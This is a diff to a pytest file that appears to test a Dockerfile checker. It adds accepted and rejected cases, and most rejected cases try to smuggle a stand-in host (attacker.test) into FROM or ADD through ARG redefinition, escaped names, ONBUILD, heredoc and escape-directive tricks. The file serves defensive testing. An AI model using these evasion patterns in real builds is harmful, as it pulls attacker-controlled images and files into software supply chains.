@@ -20,6 +20,7 @@ def refuse(text: str, **arguments: str) -> None:
         "from \\\n  # between\n  debian:12 as One\nFROM ONE\n",
         "ARG BASE_IMAGE=snapshot:other\nFROM ${BASE_IMAGE}\nADD a.tar /\n",
         "FROM debian:12\nRUN curl https://example.test\n",
+        "ARG V='12'\nARG UNSET\nFROM debian:$V\nARG A=1 B='2 3'\n",
     ],
 )
 def test_what_the_engine_has_is_fine(text: str) -> None:
@@ -54,6 +55,17 @@ def test_what_the_engine_has_is_fine(text: str) -> None:
         "FROM debian:12\nENV X=a\\\\\nADD https://attacker.test/x /x\n",
         "FROM debian:12\nRUN a \\\r\r\nFROM debian:12 AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
         "FROM 12\n",
+        "FROM debian:12\nFROM 0\n",
+        "ARG X=debian:12\nARG A=1 X=attacker.test/x\nFROM $X\n",
+        "ARG X=debian:12\nARG A X=attacker.test/x\nFROM $X\n",
+        'ARG X=debian:12\nARG X""=attacker.test/x\nFROM $X\n',
+        "ARG X=debian:12\nARG \\X=attacker.test/x\nFROM $X\n",
+        "ARG X=debian:12\nONBUILD ARG X=attacker.test/x\nARG X=attacker.test/x\nFROM $X\n",
+        "ARG X=attacker.test/x\nFROM debian:12 AS scratch\nARG X=debian:12\nFROM $X\n",
+        "ARG 1attacker=debian:12\nFROM $1attacker\n",
+        "ARG X=own\nFROM $Xé/base\n",
+        "FROM debian:12\nRUN <<'x\\'\nRUN x\\\nADD https://attacker.test/x /x\n",
+        "FROM debian:12\nCOPY <<'' /a\nRUN x \\\n\nADD https://attacker.test/x /x\n",
         "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
     ],
 )
